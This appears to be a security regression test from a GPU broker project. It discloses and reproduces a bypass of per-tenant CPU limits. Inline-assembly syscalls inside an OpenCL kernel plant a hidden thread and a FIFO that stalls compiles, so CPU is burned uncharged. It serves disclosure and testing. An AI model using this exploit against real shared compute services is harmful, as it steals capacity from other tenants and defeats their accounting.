"""A kernel's CPU burner is free while a compile is in flight: it burns a CPU outside its turns for as long as its
tenant likes, never charged to the tenant's fair share and never killed for ``max_cpu_seconds_outside_turns``.

The hole: the CPU watch (front/_cpuwatch.py) lets a worker use one CPU outside its device turns while it serves a
request of the front's that works on the host (``busy_seconds``: a compile, a copy), meant for the compile's own
CPU. But the allowance is for the worker, not for the compile: whatever thread uses it, nothing is charged. And a
tenant can keep a compile in flight that uses no CPU at all: a kernel makes a FIFO in its private ``/tmp``
(``mknodat`` is allowed) and leaves a bare thread behind (``clone(CLONE_THREAD)`` is allowed); each compile's
source does ``#include "/tmp/gpb-fifo"``, so PoCL's clang blocks reading the FIFO; the thread opens the FIFO for
writing (it sleeps until a compile opens it: no CPU between compiles), spins for 2 s, then writes a newline, and the
compile finishes normally, well within ``compile_timeout_seconds`` (60 s by default, so each compile could hold the
allowance almost a minute). The worker uses one CPU outside its turns continuously, uncharged (on a 2-core host half
of the device every other tenant shares), and ``max_cpu_seconds_outside_turns`` never fires.

Measured (2-core VM, PoCL, max_cpu_seconds_outside_turns = 2 within 60 s): the attacker's worker burned 11.9
CPU-seconds outside its turns (6 x the limit) in 12.2 s, behind 2 compiles (each opened the FIFO three times: 6 s
each); it was not killed, and its tenant's usage showed 0.00 device-seconds.

Suggested fix: allow during a compile only the CPU of the thread that runs it (schedstat of that tid, which the
worker can report and the front cannot be lied to about if it reads /proc itself: the compile runs in the worker's
main thread, whose tid is the worker's pid), never the whole tree's; and refuse ``mknodat`` of FIFOs (and sockets)
in the sandbox, so that a compile cannot be made to wait on the tenant's own code.
"""

from __future__ import annotations

import os
import time
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest

from gpubroker.broker.launcher import BrokerProcess, TenantSpec
from gpubroker.client import AdminClient, GpuBrokerError, connect

from ...conftest import worker_pids
from ...helpers import descendants
from ..exploits import SYSCALL_SOURCE, check_arch

LIMIT = 2.0  # max_cpu_seconds_outside_turns
SPIN = 2.0  # seconds the planted thread burns for each time a compile opens the FIFO
FIFO = "/tmp/gpb-fifo"

PLANT = SYSCALL_SOURCE + r"""
/* A bare thread of the worker's (clone with CLONE_VM|FS|FILES|SIGHAND|THREAD|SYSVSEM) on its own stack, registers
   only. Forever: open the FIFO for writing (blocks, using no CPU, until a compile opens it to read), spin for `ns`
   nanoseconds (the compile meanwhile blocked reading it), write a newline, close. */
static long plant(long path, long ns, long stack_top) {
    long r;
    __asm__ volatile(
        "mov %1, %%r12\n\t"
        "mov %2, %%r13\n\t"
        "mov %3, %%rsi\n\t"
        "mov $0x50f00, %%edi\n\t"
        "xor %%edx, %%edx\n\t"
        "xor %%r10d, %%r10d\n\t"
        "xor %%r8d, %%r8d\n\t"
        "mov $56, %%eax\n\t"
        "syscall\n\t"
        "test %%rax, %%rax\n\t"
        "jnz 9f\n\t"
        "1:\n\t"
        "mov $257, %%eax\n\t"               /* openat(AT_FDCWD, path, O_WRONLY) */
        "mov $-100, %%rdi\n\t"
        "mov %%r12, %%rsi\n\t"
        "mov $1, %%edx\n\t"
        "xor %%r10d, %%r10d\n\t"
        "syscall\n\t"
        "test %%rax, %%rax\n\t"
        "js 8f\n\t"
        "mov %%rax, %%r14\n\t"
        "mov $228, %%eax\n\t"               /* clock_gettime(CLOCK_MONOTONIC): the end of the spin */
        "mov $1, %%edi\n\t"
        "lea -64(%%rsp), %%rsi\n\t"
        "syscall\n\t"
        "mov -64(%%rsp), %%rax\n\t"
        "imul $1000000000, %%rax, %%rax\n\t"
        "add -56(%%rsp), %%rax\n\t"
        "add %%r13, %%rax\n\t"
        "mov %%rax, %%r15\n\t"
        "2:\n\t"
        "mov $228, %%eax\n\t"
        "mov $1, %%edi\n\t"
        "lea -64(%%rsp), %%rsi\n\t"
        "syscall\n\t"
        "mov -64(%%rsp), %%rax\n\t"
        "imul $1000000000, %%rax, %%rax\n\t"
        "add -56(%%rsp), %%rax\n\t"
        "cmp %%r15, %%rax\n\t"
        "jl 2b\n\t"
        "movb $10, -72(%%rsp)\n\t"          /* write(fd, "\n", 1): the compile goes on */
        "mov $1, %%eax\n\t"
        "mov %%r14, %%rdi\n\t"
        "lea -72(%%rsp), %%rsi\n\t"
        "mov $1, %%edx\n\t"
        "syscall\n\t"
        "mov $3, %%eax\n\t"
        "mov %%r14, %%rdi\n\t"
        "syscall\n\t"
        "jmp 1b\n\t"
        "8:\n\t"
        "mov $60, %%eax\n\t"
        "xor %%edi, %%edi\n\t"
        "syscall\n\t"
        "9:\n\t"
        : "=a"(r)
        : "m"(path), "m"(ns), "m"(stack_top)
        : "rdi", "rsi", "rdx", "r10", "r8", "r9", "r11", "rcx", "r12", "r13", "r14", "r15", "memory");
    return r;
}

/* out: mknod's result, the stack's address, the thread's tid. */
__kernel void gpb_plant(__global long* out, const long ns) {
    __constant char* name = "FIFO_PATH";
    long stack = sys6(9, 0, 65536, 3, 0x22, -1, 0);        /* mmap: the thread's stack, and the path's home */
    out[1] = stack;
    out[2] = -1;
    if (stack < 0 && stack > -4096) return;
    char* path = (char*)stack;
    int i = 0;
    for (; name[i]; ++i) path[i] = name[i];
    path[i] = 0;
    out[0] = sys6(259, -100, (long)path, 0010000 | 0600, 0, 0, 0);   /* mknodat: a FIFO */
    if (out[0] < 0 && out[0] != -17) return;
    out[2] = plant((long)path, ns, stack + 65536 - 256);
}
""".replace("FIFO_PATH", FIFO)


@pytest.fixture(scope="module")
def broker() -> Iterator[BrokerProcess]:
    check_arch()
    settings: dict[str, object] = {"max_cpu_seconds_outside_turns": LIMIT, "cpu_outside_turns_window_seconds": 60.0,
                "tenant_crash_budget": 100}
    tenants = [TenantSpec("ops", admin=True), TenantSpec("mallory")]
    with BrokerProcess(tenants, backend="opencl", settings=settings) as proc:
        yield proc


def _tree_cpu(pid: int) -> float:
    total = 0.0
    for p in [pid, *descendants(pid)]:
        try:
            fields = Path(f"/proc/{p}/stat").read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        total += sum(int(v) for v in fields[11:13]) / os.sysconf("SC_CLK_TCK")
    return total


def test_a_burner_hidden_behind_a_blocked_compile_is_never_charged(broker: BrokerProcess) -> None:
    with connect(broker.target, token=broker.tokens["mallory"]) as mallory, \
            AdminClient(broker.target, broker.tokens["ops"]) as admin:
        kernel = mallory.compile_kernel(PLANT, "gpb_plant")
        out = mallory.allocate_memory(64)
        [worker] = worker_pids(broker, "mallory")
        mallory.execute_kernel(kernel, 1, 1, [out, np.int64(int(SPIN * 1e9))])
        mallory.synchronize()
        planted = np.zeros(8, dtype=np.int64)
        mallory.copy_d2h(out, planted)
        assert planted[0] in (0, -17) and planted[2] > 0, planted[:3]  # the FIFO made, the thread running

        before, start = _tree_cpu(worker), time.monotonic()
        compiles = 0
        errors: list[GpuBrokerError] = []
        # Compile until the thread has burned 4 x the limit (or a minute passes): each compile blocks on the FIFO
        # while the thread spins.
        while _tree_cpu(worker) - before < 4 * LIMIT and time.monotonic() - start < 60:
            source = f'#include "{FIFO}"\n__kernel void gpb_k{compiles}(__global float* x) {{ x[0] = {compiles}; }}\n'
            try:
                mallory.compile_kernel(source, f"gpb_k{compiles}")
            except GpuBrokerError as exc:  # (the worker killed: what the limit should do)
                errors.append(exc)
                break
            compiles += 1
        burned, took = _tree_cpu(worker) - before, time.monotonic() - start
        alive = worker in worker_pids(broker, "mallory")
        usage = {u.tenant: u for u in admin.usage(window_seconds=120).tenants}
        charged = usage["mallory"].device_seconds if "mallory" in usage else 0.0
        log = broker.log_tail(1_000_000)
        killed = "max_cpu_seconds_outside_turns" in log
        assert killed and not alive, (
            f"mallory's worker burned {burned:.1f} CPU-seconds outside its turns in {took:.1f} s behind {compiles} "
            f"blocked compiles (max_cpu_seconds_outside_turns = {LIMIT:g}); still alive: {alive}; charged "
            f"{charged:.2f} device-seconds; errors: {errors}")
